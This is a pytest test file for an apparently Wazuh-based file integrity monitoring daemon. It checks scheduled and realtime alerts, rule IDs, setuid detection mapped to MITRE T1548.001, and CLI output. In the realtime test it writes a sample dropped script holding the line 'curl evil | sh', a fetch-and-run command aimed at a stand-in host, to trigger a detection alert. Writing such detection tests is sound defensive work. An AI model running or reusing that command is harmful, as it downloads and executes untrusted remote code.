"""A real daemon with Wazuh's ruleset: FIM alerts in scheduled and realtime mode, and the CLI."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess

import pytest

from wazuhd.testing import DaemonProcess, wait_for

from syscheck_helpers import HAS_WAZUH_RULESET, SyscheckDaemon, scan_count, write

pytestmark = pytest.mark.skipif(not HAS_WAZUH_RULESET, reason="Wazuh's ruleset is absent (../shared/wazuh-ruleset)")


@pytest.fixture(scope="module")
def trees(tmp_path_factory):
    base = tmp_path_factory.mktemp("syscheck-daemon")
    scheduled, realtime = base / "scheduled", base / "realtime"
    write(scheduled / "app.conf", "port=80\n")
    write(scheduled / "keep" / "data.txt", "data\n")
    write(realtime / "live.txt", "live\n")
    write(realtime / "tool", "#!/bin/sh\n")
    return base, scheduled, realtime


@pytest.fixture(scope="module")
def daemon(trees):
    base, scheduled, realtime = trees
    daemon = SyscheckDaemon(base / "home", [
        {"path": str(scheduled), "report_changes": True, "tags": "config"},
        {"path": str(realtime), "realtime": True}], extra="  realtime_delay: 0.02\n")
    daemon.start(timeout=60)
    assert wait_for(lambda: scan_count(daemon) >= 1, 30)  # scan_on_start: the baseline
    yield daemon
    daemon.terminate()


def test_scheduled_changes_alert_with_wazuh_rules(daemon, trees):
    _, scheduled, _ = trees
    (scheduled / "app.conf").write_text("port=8080\n")
    os.chown(scheduled / "keep" / "data.txt", 321, 654)
    write(scheduled / "added.txt", "hello\n")
    done = daemon.cli("syscheck", "scan", "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert (report["added"], report["modified"], report["deleted"]) == (1, 2, 0)
    alerts = {a["syscheck"]["path"]: a for a in daemon.wait_alerts(3)}
    modified = alerts[str(scheduled / "app.conf")]
    assert modified["rule"]["id"] == "550" and modified["rule"]["level"] == 7
    section = modified["syscheck"]
    assert section["mode"] == "scheduled" and section["event"] == "modified"
    assert section["size_before"] == "8" and section["size_after"] == "10"
    assert {"size", "md5", "sha1", "sha256"} <= set(section["changed_attributes"])
    assert "+port=8080" in section["diff"] and section["tags"] == ["config"]
    owner = alerts[str(scheduled / "keep" / "data.txt")]["syscheck"]
    assert (owner["uid_before"], owner["uid_after"], owner["gid_after"]) == ("0", "321", "654")
    assert alerts[str(scheduled / "added.txt")]["rule"]["id"] == "554"
    assert modified["location"] == "syscheck" and modified["agent"]["id"] == "000"

    (scheduled / "keep" / "data.txt").unlink()
    assert daemon.cli("syscheck", "scan", "--dir", str(scheduled / "keep")).returncode == 0
    deleted = [a for a in daemon.wait_alerts(4) if a["syscheck"]["event"] == "deleted"]
    assert [(a["rule"]["id"], a["syscheck"]["path"]) for a in deleted] == [
        ("553", str(scheduled / "keep" / "data.txt"))]


def test_realtime_changes_alert_within_moments(daemon, trees):
    _, _, realtime = trees
    before = len(daemon.fim_alerts())
    (realtime / "live.txt").write_text("changed\n")
    os.chmod(realtime / "tool", 0o4755)  # setuid: the starter rule 192010 refines Wazuh's 550
    write(realtime / "dropped.sh", "curl evil | sh\n")
    assert wait_for(lambda: len(daemon.fim_alerts()) >= before + 3, 10), daemon.fim_alerts()
    alerts = {a["syscheck"]["path"]: a for a in daemon.fim_alerts()[before:]}
    assert {a["syscheck"]["mode"] for a in alerts.values()} == {"realtime"}
    assert alerts[str(realtime / "live.txt")]["rule"]["id"] == "550"
    setuid = alerts[str(realtime / "tool")]
    assert setuid["rule"]["id"] == "192010" and setuid["rule"]["level"] == 10
    assert setuid["syscheck"]["perm_after"] == "rwsr-xr-x"
    assert "T1548.001" in setuid["rule"]["mitre"]["id"]
    assert alerts[str(realtime / "dropped.sh")]["rule"]["id"] == "554"
    subprocess.run(["rm", "-f", str(realtime / "dropped.sh")], check=True)
    assert wait_for(lambda: any(a["rule"]["id"] == "553" and a["syscheck"]["path"] == str(realtime / "dropped.sh")
                                for a in daemon.fim_alerts()), 10)


def test_cli_show_and_errors(daemon, trees):
    _, scheduled, _ = trees
    done = daemon.cli("syscheck", "show", str(scheduled / "app.conf"), "--json")
    assert done.returncode == 0, done.stderr
    entry = json.loads(done.stdout)
    assert entry["sha256"] == hashlib.sha256(b"port=8080\n").hexdigest()
    assert entry["changes"] >= 2 and entry["dir"] == str(scheduled)
    text = daemon.cli("syscheck", "show", str(scheduled / "app.conf")).stdout
    assert "sha256" in text and entry["sha256"] in text
    missing = daemon.cli("syscheck", "show", "/no/such/file")
    assert missing.returncode == 1 and "not in the baseline" in missing.stderr
    outside = daemon.cli("syscheck", "scan", "--dir", "/usr/share")
    assert outside.returncode == 1 and "not under a monitored directory" in outside.stderr


def test_counters_in_status(daemon):
    counters = daemon.counters("syscheck")
    assert counters["scans"] >= 3 and counters["entries"] == 4  # app.conf, added.txt, live.txt, tool
    assert counters["watches"] == 1 and counters["events"] >= 8


def test_cli_scan_without_a_daemon(tmp_path):
    idle = DaemonProcess(tmp_path / "nohome")
    done = idle.cli("syscheck", "scan")
    assert done.returncode == 1 and "no daemon is running" in done.stderr
